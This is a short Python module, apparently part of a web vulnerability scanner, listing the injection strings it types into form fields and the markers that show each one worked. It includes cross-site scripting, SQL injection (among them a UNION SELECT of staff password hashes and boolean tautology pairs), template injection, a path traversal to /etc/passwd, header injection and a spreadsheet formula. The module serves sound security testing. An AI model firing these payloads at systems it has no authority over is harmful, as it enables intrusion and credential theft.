"""What a scanner types into every field, and how each shows that it worked."""

from __future__ import annotations

from dataclasses import dataclass

MARK = "zqx7"  # no word of ours
CLOSERS = "'\"></textarea></title></select>"
ELEMENT = f"{CLOSERS}<{MARK} on{MARK}=1><script>{MARK}</script><svg/on{MARK}=1>"
PRODUCT = "62615533"  # 7919 * 7907, which no page says by itself

FAMILIES = {
    "an element": ELEMENT,
    "an attribute": f'" {MARK}="1" autofocus on{MARK}=\'1',
    "a scheme": f"javascript:{MARK}()",
    "SQL": "' OR '1'='1' UNION SELECT password_hash FROM staff --",
    "SQL of numbers": "1) OR 1=1 --",
    "a template": "{{7919*7907}}${7919*7907}<%=7919*7907%>#{7919*7907}",
    "a path": "../../../../../../etc/passwd\x00.png",
    "a header": f"x\r\nX-{MARK}: 1\r\nSet-Cookie: {MARK}=1\r\n\r\n<{MARK}>",
    "not a letter": "\x00\x1b\ud7ff\u202e\u2066\ufeff\uffff\U0010ffff\u3000%00%0a",
    "very long": "あ" * 30_000,
    "a formula": f'=HYPERLINK("http://{MARK}.example","x")',
    "a number": "99999999999999999999999999",
    "less than nothing": "-1",
    "nothing": "",
}

# What is typed into and chosen in every field of every form; the links have all of the families.
TYPED = ("an element", "SQL", "a template", "a path", "a header", "not a letter", "very long")
CHOSEN = ("an element", "a number", "not a letter")


@dataclass(frozen=True)
class Pair:
    """Two texts that SQL tells apart and words do not: the answers must be the same."""

    true: str
    false: str


TAUTOLOGIES = (
    Pair("zqx' OR 'a'='a", "zqx' OR 'a'='b"),
    Pair("zqx%' OR 1=1 --", "zqx%' OR 1=2 --"),
    Pair("1 OR 1=1", "1 OR 1=2"),
    Pair("1) OR (1=1", "1) OR (1=2"),
)
